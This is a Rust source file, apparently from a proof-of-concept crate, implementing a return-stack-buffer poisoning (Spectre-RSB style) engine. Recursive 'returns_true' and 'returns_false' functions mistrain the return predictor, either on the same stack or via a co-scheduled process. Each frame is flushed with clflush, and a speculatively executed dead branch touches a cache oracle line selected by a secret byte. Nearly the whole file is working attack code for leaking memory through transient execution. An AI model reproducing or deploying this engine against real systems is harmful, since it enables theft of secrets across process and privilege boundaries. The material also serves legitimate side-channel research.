//! Return stack buffer poisoning by nested recursion.
//!
//! Two functions are named after their constant return values. `returns_true`
//! nests itself `depth` times; at the bottom the return predictor is
//! overwritten, either by a full `returns_false` recursion on the same stack
//! or by a co-scheduled process running it. Every return of `returns_true` is
//! then predicted to land after a `returns_false` call site, right where the
//! result is tested. Speculation follows the `true` branch there, which can
//! never run architecturally, and reads the oracle line selected by the
//! secret byte.
//!
//! The engine lives on the heap and the recursion only passes `&self` and the
//! counter. Each `returns_true` level flushes its own stack frame before
//! returning, so nothing the leak depends on may sit in that memory.

use std::cell::{Cell, RefCell};
use std::hint::black_box;

use crate::frames::{FlushSpan, FrameMarks, LineFlush};
use crate::instr::{clflush, yield_cpu};
use crate::sidechannel::OracleHandle;

/// Where the predictor pollution at the bottom of the true recursion comes from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Poisoning {
    /// `returns_true` calls `returns_false` itself.
    SameStack,
    /// Another process on the same core runs `returns_false`; the bottom of
    /// each recursion yields the CPU to it.
    CoScheduled,
}

/// Called when the unreachable branch runs architecturally.
pub type TrapHandler = fn() -> !;

/// Prints the dead-code diagnostic and exits with failure.
pub fn fatal_trap() -> !
{
    eprintln!("Dead code. Must not be printed.");
    std::process::exit(1);
}

pub struct Engine<'s> {
    depth: usize,
    poisoning: Poisoning,
    marks: RefCell<FrameMarks>,
    secret: &'s [u8],
    offset: Cell<usize>,
    oracle: Cell<Option<OracleHandle>>,
    on_trap: TrapHandler,
    flush_line: LineFlush,
}

impl<'s> Engine<'s> {
    /// Boxed so the state survives the stack flushes untouched.
    pub fn new(depth: usize, poisoning: Poisoning, secret: &'s [u8]) -> Box<Self>
    {
        Box::new(Engine {
            depth,
            poisoning,
            marks: RefCell::new(FrameMarks::with_depth(depth)),
            secret,
            offset: Cell::new(0),
            oracle: Cell::new(None),
            on_trap: fatal_trap,
            flush_line: clflush,
        })
    }

    pub fn with_trap_handler(mut self: Box<Self>, on_trap: TrapHandler) -> Box<Self>
    {
        self.on_trap = on_trap;
        self
    }

    /// Replace the per-line frame flush, `clflush` by default.
    pub fn with_line_flush(mut self: Box<Self>, flush_line: LineFlush) -> Box<Self>
    {
        self.flush_line = flush_line;
        self
    }

    pub fn depth(&self) -> usize
    {
        self.depth
    }

    pub fn secret(&self) -> &'s [u8]
    {
        self.secret
    }

    pub fn offset(&self) -> usize
    {
        self.offset.get()
    }

    /// Point the trap at `offset` of the secret and at the oracle surface.
    pub fn arm(&self, oracle: OracleHandle, offset: usize)
    {
        self.offset.set(offset);
        self.oracle.set(Some(oracle));
    }

    pub fn disarm(&self)
    {
        self.oracle.set(None);
    }

    pub fn is_armed(&self) -> bool
    {
        self.oracle.get().is_some()
    }

    /// Number of frame marks currently held, zero between triggers.
    pub fn pending_marks(&self) -> usize
    {
        self.marks.borrow().len()
    }

    /// One full misprediction attempt.
    pub fn trigger(&self)
    {
        // sentinel mark for the outermost returns_true, so every level has a
        // caller mark to flush up to
        let stack_mark = 0u8;
        self.marks.borrow_mut().mark(black_box(&stack_mark));
        self.returns_true(self.depth);
        self.marks.borrow_mut().unmark();
    }

    /// Always returns false.
    #[inline(never)]
    pub fn returns_false(&self, counter: usize) -> bool
    {
        if counter > 0 {
            if self.returns_false(counter - 1) {
                // Unreachable, returns_false can never return true.
                self.fire_trap();
            }
        } else if self.poisoning == Poisoning::CoScheduled {
            // Yield the CPU to increase the interference.
            yield_cpu();
        }
        black_box(false)
    }

    /// Always returns true.
    #[inline(never)]
    pub fn returns_true(&self, counter: usize) -> bool
    {
        let stack_mark = 0u8;
        let own_mark = black_box(&stack_mark) as *const u8;
        self.marks.borrow_mut().mark(own_mark);

        if counter > 0 {
            self.returns_true(counter - 1);
        } else {
            match self.poisoning {
                Poisoning::SameStack => {
                    self.returns_false(self.depth);
                }
                // let the other process run and fill the predictor
                Poisoning::CoScheduled => yield_cpu(),
            }
        }

        // Everything between our mark and the caller's mark belongs to this
        // frame, the return address included.
        let caller_mark = {
            let mut marks = self.marks.borrow_mut();
            marks.unmark();
            marks.peek()
        };
        if let Some(caller_mark) = caller_mark {
            FlushSpan::between(own_mark as usize, caller_mark).flush_with(self.flush_line);
        }
        true
    }

    #[cold]
    #[inline(never)]
    fn fire_trap(&self) -> !
    {
        if let (Some(oracle), Some(&byte)) =
            (self.oracle.get(), self.secret.get(self.offset.get()))
        {
            oracle.touch(byte);
        }
        (self.on_trap)()
    }
}
